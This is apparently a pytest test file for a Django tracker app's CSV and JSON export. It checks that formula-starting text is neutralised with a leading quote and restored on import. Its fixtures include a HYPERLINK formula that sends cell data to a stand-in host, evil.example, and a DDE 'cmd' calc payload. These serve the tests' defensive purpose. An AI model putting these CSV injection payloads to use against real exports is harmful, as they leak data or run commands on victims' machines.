"""The CSV export never hands a spreadsheet a live formula: text that would start one gets a ' in
front (OWASP's CSV injection rule), name by name in ;-joined lists too, and Hearth's own import
takes it off again, so the round trip stays exact. The JSON export is left as it is."""

import csv
import datetime
import io
import json

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from portability import exporting, importing
from tests.conftest import reauthenticate
from tests.factories import DailyEntryFactory, SymptomFactory
from tests.pages import words
from tracker.models import DailyEntry

DAY = datetime.date(2026, 11, 20)
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"


pytestmark = pytest.mark.usefixtures("clock")


def export_of(client, person, kind: str) -> str:
    client.force_login(person)
    reauthenticate(client, person)
    response = client.get(f"/account/data/export.{kind}")
    return b"".join(response.streaming_content).decode()


def rows_of(export: str) -> list[dict]:
    return list(csv.DictReader(io.StringIO(export, newline="")))


def test_formulas_in_notes_and_symptom_names_come_out_as_text(client, user):
    entry = DailyEntryFactory(user=user, day=DAY, notes=HYPERLINK)
    entry.symptoms.set(
        [SymptomFactory(owner=user, name="Hives"), SymptomFactory(owner=user, name=COMMAND)]
    )

    row = rows_of(export_of(client, user, "csv"))[0]

    assert row["notes"] == "'" + HYPERLINK
    assert sorted(row["symptoms"].split(";")) == ["'" + COMMAND, "Hives"]


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-3 bad day", "'-3 bad day"),
        ("@me", "'@me"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("'hello", "'hello"),
        ("a = b", "a = b"),
        ("Tired", "Tired"),
    ],
)
def test_each_text_that_would_start_a_formula_gets_one_quote_more(client, user, text, cell):
    DailyEntryFactory(user=user, day=DAY, notes=text)

    assert rows_of(export_of(client, user, "csv"))[0]["notes"] == cell


def test_numbers_days_and_times_are_not_touched(client, user):
    DailyEntryFactory(user=user, day=DAY, stress=0, notes="")

    row = rows_of(export_of(client, user, "csv"))[0]

    assert (row["day"], row["stress"], row["notes"]) == ("2026-11-20", "0", "")
    assert row["created_at"].startswith("2026-")


@pytest.mark.parametrize("note", ["'hello", "=1", "-3 bad day", "'=x", "''+x", "@x", HYPERLINK])
def test_hearths_own_csv_round_trip_is_exact(client, user, other_user, note):
    entry = DailyEntryFactory(user=user, day=DAY, notes=note)
    entry.symptoms.set([SymptomFactory(owner=user, name=COMMAND)])
    original = export_of(client, user, "csv")

    client.force_login(other_user)
    response = client.post(
        "/account/data/import/",
        {"file": SimpleUploadedFile("hearth.csv", original.encode()), "existing": "skip"},
        follow=True,
    )

    assert "Imported 1 new day" in words(response), words(response)
    imported = DailyEntry.objects.get(user=other_user)
    assert imported.notes == note
    assert [symptom.name for symptom in imported.symptoms.all()] == [COMMAND]
    assert export_of(client, other_user, "csv") == original


def test_a_quote_before_a_formula_character_is_taken_off_a_hand_written_csv_too(signed_in, user):
    content = "day,notes,symptoms\r\n2026-11-20,'=x,'-Itch;Hives\r\n"

    signed_in.post(
        "/account/data/import/",
        {"file": SimpleUploadedFile("mine.csv", content.encode()), "existing": "skip"},
    )

    entry = DailyEntry.objects.get(user=user)
    assert entry.notes == "=x"
    assert sorted(symptom.name for symptom in entry.symptoms.all()) == ["-Itch", "Hives"]


def test_the_json_export_keeps_text_exactly_as_written(client, user):
    entry = DailyEntryFactory(user=user, day=DAY, notes=HYPERLINK)
    entry.symptoms.set([SymptomFactory(owner=user, name=COMMAND)])

    day = json.loads(export_of(client, user, "json"))["days"][0]

    assert (day["notes"], day["symptoms"]) == (HYPERLINK, [COMMAND])
    assert json.dumps(HYPERLINK, ensure_ascii=False) in export_of(client, user, "json")


def test_a_json_import_keeps_a_leading_quote(signed_in, user):
    export = {"format": "hearth-export", "version": 1, "days": [{"day": "2026-11-20"}]}
    export["days"][0]["notes"] = "'=x"

    signed_in.post(
        "/account/data/import/",
        {
            "file": SimpleUploadedFile("hearth.json", json.dumps(export).encode()),
            "existing": "skip",
        },
    )

    assert DailyEntry.objects.get(user=user).notes == "'=x"


@pytest.mark.parametrize("text", ["=1", "'=1", "''=1", "'hello", "-", "'", "", "x=1"])
def test_inert_and_restored_undo_each_other(text):
    assert importing._restored(exporting._inert(text)) == text
